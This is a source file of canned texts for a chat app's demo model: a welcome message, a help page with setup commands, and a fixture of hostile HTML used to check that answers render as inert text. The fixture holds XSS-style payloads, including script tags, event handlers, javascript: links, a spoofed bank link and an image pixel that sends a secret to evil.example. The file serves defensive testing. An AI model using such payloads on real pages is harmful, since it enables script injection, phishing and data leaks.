/** The fixed texts of the demo model. */
export const WELCOME = `I am the **demo model** that comes with cable-chat. I need no key, I make everything up, and I am here to show how an answer streams.

Ask me anything, or say \`help\`.`;

export const HELP = `I am the **demo model** that comes with cable-chat: no key, no network, and no knowledge either.

## What you can try

- ask anything: each answer shows other constructs of markdown
- tell me something (“My name is Ada”, “My cat is called Minka”) and ask for it later
- \`write code in Ruby\`, \`a table\`, \`a checklist\`, \`emoji\`, \`everything\`
- \`long\`, \`3000 words about the sea\`, \`short\`
- \`show html\`: what a hostile answer looks like when it is harmless
- \`fail\`, \`fail at once\`, \`rate limit error\`: how a failure looks

## How to put in a real model

Stop the server and start it with a key:

\`\`\`bash
OPENAI_API_KEY=sk-… OPENAI_MODEL=gpt-4.1-mini npm start
\`\`\`

Any OpenAI-compatible server works, also one of your own that needs no key:

\`\`\`bash
OPENAI_BASE_URL=http://127.0.0.1:11434/v1 OPENAI_MODEL=llama3.2 npm start
\`\`\``;

/** Everything here has to be shown as text or as a harmless link, and to do nothing. */
export const HOSTILE = `Raw HTML in an answer is text, never markup. None of this may do anything:

<script>document.title = 'executed'</script>

<img src="x" onerror="document.title = 'executed'">

<svg onload="document.title = 'executed'"><a href="javascript:alert(1)">a link</a></svg>

Inline <b onclick="alert(1)">markup</b>, <iframe src="https://example.com"></iframe> and an HTML comment <!-- hidden? -->.

- [a script as a link](javascript:alert(1))
- [data as a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
- [another host than it says: https://bank.example](https://evil.example/login)
- ![a picture that would tell on you](https://evil.example/pixel.png?secret=1)
- <javascript:alert(1)>

\`\`\`html
<script>alert('in a block of code, too')</script>
\`\`\``;
